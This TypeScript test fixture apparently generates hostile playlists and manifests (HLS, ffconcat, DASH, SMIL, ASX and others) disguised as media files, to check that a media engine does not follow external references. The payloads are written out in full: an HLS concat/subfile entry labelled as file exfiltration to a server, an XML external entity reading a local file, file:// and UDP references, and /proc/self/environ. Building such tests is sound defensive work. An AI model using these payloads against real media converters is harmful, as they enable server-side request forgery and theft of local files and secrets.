/** Playlists and manifests that reference other media, in every format that players understand. */
import type { FormatId } from '@filesmith/contract/formats'
import { type HostileFile, hostile, type Targets } from './hostile-file.ts'

/** A video, an audio and an animated format: what an engine may be given instead. */
const declaredFormats: readonly FormatId[] = ['mp4', 'avi', 'ts', 'mpeg', 'mp3', 'wav', 'gif']

export function playlists({
  http,
  http6,
  udp,
  video,
  audio,
  text,
  otherJob,
  unixSocket,
}: Targets): HostileFile[] {
  const list = (what: string, fileName: string, content: string) =>
    hostile('external', what, fileName, content, declaredFormats)
  const hls = (...entries: readonly string[]) =>
    `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n${entries.map(entry => `#EXTINF:1.0,\n${entry}\n`).join('')}#EXT-X-ENDLIST\n`
  return [
    list('m3u8: a server', 'video.mp4', hls(`${http}/a.ts`, `${http6}/b.ts`)),
    list('m3u8: a video on the disk', 'video.mp4', hls(video, `file://${video}`, otherJob.video)),
    list(
      'm3u8: exfiltration of a file to a server',
      'video.avi',
      hls(
        `concat:${http}/head|subfile,,start,0,end,99,,:${text}|`,
        `crypto+file://${text}`,
        `data:text/plain,${text}`,
      ),
    ),
    list(
      'm3u8: a key from a server',
      'video.mp4',
      `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${http}/key"\n#EXT-X-MAP:URI="file://${text}"\n#EXTINF:1,\n${video}\n#EXT-X-ENDLIST\n`,
    ),
    list(
      'ffconcat: a video on the disk',
      'video.mkv',
      `ffconcat version 1.0\nfile '${video}'\nfile '${http}/b.ts'\n`,
    ),
    list('concat without its header line', 'video.mkv', `file '${video}'\nduration 1\nfile '${http}/b.ts'\n`),
    list(
      'mpd: a server and the local disk',
      'video.mp4',
      `<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://${text}">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${http}/v.mp4</BaseURL></Representation><Representation id="2" bandwidth="2"><BaseURL>file://${video}</BaseURL></Representation></AdaptationSet></Period>&x;</MPD>`,
    ),
    list(
      'sdp: a UDP stream',
      'video.mp4',
      `v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video ${udp.split(':')[1]} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n`,
    ),
    list(
      'pls',
      'song.mp3',
      `[playlist]\nNumberOfEntries=2\nFile1=${http}/a.mp3\nFile2=${audio}\nVersion=2\n`,
    ),
    list('cue', 'song.wav', `FILE "${audio}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`),
    list(
      'asx',
      'video.wmv',
      `<asx version="3.0"><entry><ref href="${http}/a.wmv"/></entry><entryref href="file://${video}"/></asx>`,
    ),
    list('asf reference', 'video.wmv', `[Reference]\r\nRef1=${http}/a.asf\r\nRef2=file://${video}\r\n`),
    list(
      'smil',
      'video.mp4',
      `<smil><body><video src="${http}/a.mp4"/><video src="file://${video}"/><video src="rtsp://${udp}/x"/></body></smil>`,
    ),
    list(
      'xspf',
      'song.mp3',
      `<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>${http}/a.mp3</location></track></trackList></playlist>`,
    ),
    list('a bare URL', 'video.mp4', `udp://${udp}\nunix://${unixSocket}\n${http}/x.mp4\n`),
    list('image sequence', 'video.mp4', `%d.png\n${video}\n/proc/self/environ\n`),
  ]
}
